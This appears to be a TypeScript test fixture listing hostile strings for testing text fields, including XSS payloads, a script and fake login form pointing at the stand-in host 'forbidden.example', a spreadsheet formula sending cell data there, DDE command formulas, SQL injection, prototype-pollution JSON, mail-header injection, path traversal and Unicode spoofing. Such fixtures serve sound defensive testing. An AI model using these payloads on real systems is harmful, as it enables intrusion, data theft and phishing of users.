/** Texts that attack whoever shows, stores, sends or exports them. For tests of everything that people can write into. */

/** A machine that nothing may ever ask for. */
export const FORBIDDEN_HOST = "forbidden.example";

const HIT = "globalThis.__hit=1;alert(1)";

/** By what they try. None is longer than 140 characters unless it says so, so that every field could take it. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  "a script": `<script>${HIT}</script>`,
  "a script from elsewhere": `<script src=//${FORBIDDEN_HOST}/x.js></script>`,
  "the end of a script": `</script><script>${HIT}</script><!--`,
  "the end of a style": "</style><style>*{display:none!important}</style>",
  "the end of a title": `</title><svg/onload="${HIT}">`,
  "an SVG": `<svg onload="${HIT}"><animate onbegin="${HIT}" attributeName=x dur=1s>`,
  "an event handler": `<img src=https://${FORBIDDEN_HOST}/x.png onerror="${HIT}">`,
  "the end of an attribute": `"' onmouseover="${HIT}" autofocus onfocus="${HIT}" x="`,
  "a frame": `<iframe srcdoc="<script>${HIT}</script>"></iframe>`,
  "a form": `<form action=//${FORBIDDEN_HOST}><input name=password><button>Log in`,
  "a base": `<base href=//${FORBIDDEN_HOST}/><meta http-equiv=refresh content=0;url=//${FORBIDDEN_HOST}>`,
  entities: "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
  "a javascript link": "javascript:alert(1)",
  "a data link": "data:text/html,<script>alert(1)</script>",
  markdown: `[x](javascript:alert(1)) ![x](https://${FORBIDDEN_HOST}/x.png)`,
  templates: "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 7*7 %> #{7*7}",
  "an override of direction": "invoice\u202Egpj.exe\u202C \u2066\u2067\u2068x\u2069 \u200F\u061C",
  "what has no width": "zero\u200B\u200C\u200D\u2060\uFEFFwidth\u00AD",
  "tags and selectors": "a\u{E0041}\u{E007F}b\uFE0Fc\u{E0100}",
  controls: "\u001B[31mred\u001B]0;title\u0007 \b\b\b \u0085",
  "line ends": "one\r\ntwo\nthree\rfour\u2028five\u2029six\u000Bseven",
  "headers of a mail": "Hello\r\nBcc: everybody@example.org\r\n\r\n<b>body</b>",
  "lines of a calendar": 'Party\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE;x="a,b"\\n',
  "lines of captions": "Chapter\n\n00:00.000 --> 99:00.000\n<c.x>spoof</c>",
  "a formula": '=HYPERLINK("https://forbidden.example/?"&A1,"x")',
  "a command": "=cmd|'/C calc'!A0",
  "a formula with plus": "+1+cmd|' /C calc'!A0",
  "a formula with minus": "-2+3+cmd|' /C calc'!A0",
  "a formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a formula in full width": "\uFF1D1+1",
  "a formula behind white space": " \t=1+1",
  cells: 'a","b;c\td\n"e"',
  marks: `Z${"\u0335\u0301\u0489".repeat(40)}algo`,
  "wide letters": "\uFDFD".repeat(40),
  "tall letters": "\u{12031}\u{1242B}\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49",
  "other names": "@\u0430dmin @\u043Ewner \uFF20mainstage @mainstage\u200B",
  "right to left": "\u05E9\u05DC\u05D5\u05DD (live) \u0645\u0631\u062D\u0628\u0627 123",
  SQL: "'); drop table account; -- \\'; select pg_sleep(9)",
  JSON: '","role":"owner","__proto__":{"admin":true},"x":"',
  formats: "%s%n%x {0} \\u0000 \\x00 %00 %0d%0a ../../etc/passwd",
  emoji: "\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{1F1E9}\u{1F1EA} 1\uFE0F\u20E3 \u2764\uFE0F \u{1F44D}\u{1F3FD}",
  "a word as long as a field": "W".repeat(60),
};

/** Nothing of these can be seen: what needs a text refuses them. */
export const INVISIBLE_TEXTS: readonly string[] = [
  "\u200B\u200B",
  "\u3164\u2800\u115F",
  "\u202E",
  "\u{E0041}",
  " \t\r\n",
];

/** These cannot be stored: they are refused as they are. */
export const BROKEN_TEXTS: readonly string[] = ["a\uD800b", "\uDC00", "a\0b"];

/** A word that breaks a layout that does not break words. */
export const LONG_WORD = "W".repeat(10_000);
